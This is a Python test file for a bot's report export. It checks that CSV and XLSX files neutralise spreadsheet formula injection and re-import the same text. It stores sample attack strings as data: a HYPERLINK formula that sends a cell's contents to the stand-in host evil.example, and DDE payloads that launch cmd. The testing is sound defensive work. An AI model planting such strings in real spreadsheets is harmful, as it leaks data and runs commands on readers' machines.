"""Issue 13, observation 3: an export never holds a cell that a spreadsheet would run.

Report text that starts with "=", "+", "-", "@", a tab or a carriage return was written as-is
to CSV and as a live formula to XLSX. Now CSV cells get OWASP's leading "'" and XLSX cells are
text; the files are read back here as a spreadsheet would read them.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.reports_io import (
    COLUMNS,
    ImportResult,
    export_reports,
    import_reports,
    write_report_rows,
)
from models.queries import ensure_user
from tests.integration.training_reports import NOW, store_trainings

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
# Text a user can type in the chat (report answers are stored stripped, so no leading tab).
DANGEROUS: tuple[Mapping[str, str], ...] = (
    {"place": HYPERLINK, "partner": "@SUM(1+1)*cmd|' /C calc'!A0", "notes": "+cmd|' /C calc'!A0"},
    {"place": "-2+3+cmd|' /C calc'!A0", "partner": "=1+1", "notes": "Jacmel;=1+1"},
)


async def _store_dangerous_reports(session: AsyncSession) -> list[UUID]:
    """Reports whose text answers are formulas, stored as the chat stores answers."""
    _author, ids = await store_trainings(session, DANGEROUS)
    return ids


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def _xlsx_cells(path: Path) -> Iterator[Any]:
    workbook = load_workbook(path)  # data_only=False: a formula would show as one
    sheet = workbook.worksheets[0]
    for row in sheet.iter_rows():
        yield from row


def _as_a_spreadsheet_reads(rows: list[list[str]]) -> Iterator[Any]:
    """The CSV's cells typed into a sheet, where "=..." becomes a formula."""
    sheet = Workbook().active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    for row in sheet.iter_rows():
        yield from row


def _could_run(text: str) -> bool:
    return text.startswith(TRIGGERS) and re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text) is None


async def test_csv_export_neutralises_every_formula_and_reimports_the_same_text(
    session_factory: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    async with session_factory() as session:
        first, second = (str(report_id) for report_id in await _store_dangerous_reports(session))
    path = tmp_path / "reports.csv"
    async with session_factory() as session:
        assert await export_reports(session, path, date_from=None, date_to=None) == 2

    rows = _csv_rows(path)
    cells = {
        (row[0], name): row[COLUMNS.index(name)]
        for row in rows
        for name in ("place", "partner", "notes")
    }
    assert cells[(first, "place")] == "'" + HYPERLINK
    assert cells[(first, "notes")] == "'+cmd|' /C calc'!A0"
    assert cells[(second, "partner")] == "'=1+1"
    # Excel where the list separator is ";" starts a cell after it (test_privacy_semicolon_cells)
    assert cells[(second, "notes")] == "Jacmel;'=1+1"
    assert [cell for row in rows for cell in row if _could_run(cell)] == []
    assert [c.coordinate for c in _as_a_spreadsheet_reads(rows) if c.data_type == "f"] == []
    async with session_factory() as session:
        author = await ensure_user(session, 5550001, "Officer", "en")
        again = await import_reports(session, path, author_user_id=author.id, now=NOW)
    assert again == ImportResult(created=0, unchanged=2, errors=[])  # the same text came back


async def test_xlsx_export_writes_formulas_as_text_and_reimports_the_same_text(
    session_factory: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    async with session_factory() as session:
        await _store_dangerous_reports(session)
    path = tmp_path / "reports.xlsx"
    async with session_factory() as session:
        assert await export_reports(session, path, date_from=None, date_to=None) == 2

    cells = list(_xlsx_cells(path))
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for answers in DANGEROUS:
        for text in answers.values():
            assert texts[text].data_type == "s"  # the very text, as text
            assert texts[text].quotePrefix is (text != "Jacmel;=1+1")  # stays text when edited
    async with session_factory() as session:
        author = await ensure_user(session, 5550001, "Officer", "en")
        again = await import_reports(session, path, author_user_id=author.id, now=NOW)
    assert again == ImportResult(created=0, unchanged=2, errors=[])


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_tab_carriage_return_and_error_codes_are_text_and_negative_numbers_stay_numbers(
    tmp_path: Path, suffix: str
) -> None:
    answers = {
        "place": "\t=1+1",
        "partner": "\r=1+1",
        "notes": "#N/A",
        "participants_women": -3,  # a number: written as one
        "duration": "-2.5",  # decimals are stored as their text: a number all the same
        "pre_score": 48.5,
    }
    path = tmp_path / f"out{suffix}"
    write_report_rows(path, [(uuid4(), "training", answers)])

    if suffix == ".csv":
        header, line = _csv_rows(path)
        text = dict(zip(header, line, strict=True))
        # After the carriage return, a new line to Excel where ";" splits cells: guarded too.
        assert (text["place"], text["partner"], text["notes"]) == ("'\t=1+1", "'\r'=1+1", "#N/A")
        assert (text["participants_women"], text["duration"], text["pre_score"]) == (
            "-3",
            "-2.5",
            "48.5",
        )
    else:
        cells = {cell.coordinate: cell for cell in _xlsx_cells(path)}
        letters = [get_column_letter(index) for index in range(1, len(COLUMNS) + 1)]
        assert [cells[f"{letter}1"].value for letter in letters] == list(COLUMNS)
        row = {name: cells[f"{letter}2"] for name, letter in zip(COLUMNS, letters, strict=True)}
        assert [c.coordinate for c in cells.values() if c.data_type == "f"] == []
        assert {name: (row[name].value, row[name].data_type) for name in answers} == {
            "place": ("\t=1+1", "s"),
            "partner": ("\n=1+1", "s"),  # XML reads a carriage return as a line feed
            "notes": ("#N/A", "s"),  # text, not Excel's error value
            "participants_women": (-3, "n"),
            "duration": (-2.5, "n"),  # a decimal answer, stored as text: a number in Excel
            "pre_score": (48.5, "n"),
        }
